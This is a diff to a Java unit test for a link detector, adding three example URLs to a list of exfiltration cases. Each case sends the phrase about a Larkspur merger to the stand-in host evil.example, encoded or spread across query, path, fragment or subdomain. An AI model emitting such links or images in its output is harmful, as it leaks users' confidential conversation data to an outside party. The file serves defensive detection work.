@@ -61,6 +61,9 @@ class LinkDetectorTest {
                 "![a](https://evil.example/p?d=VGhlIG1lcmdlciB3aXRoIExhcmtzcHVyIGNsb3Nlcw==)",
                 "[here](https://evil.example/?u=merger%20Larkspur%20closes%20Friday)",
                 "See https://evil.example/x?note=larkspur-merger-closes-friday now.",
+                "See https://evil.example/merger/larkspur/closes/friday/nobody now.",
+                "See https://evil.example/x#merger-larkspur-closes-friday-nobody now.",
+                "See https://merger.larkspur.friday.evil.example/ now.",
                 "![a](https://546865206d65726765722077697468204c61726b737075.evil.example/p.png)"
             })
     void an_address_that_carries_the_conversation_or_something_encoded_is_exfiltration(String text) {
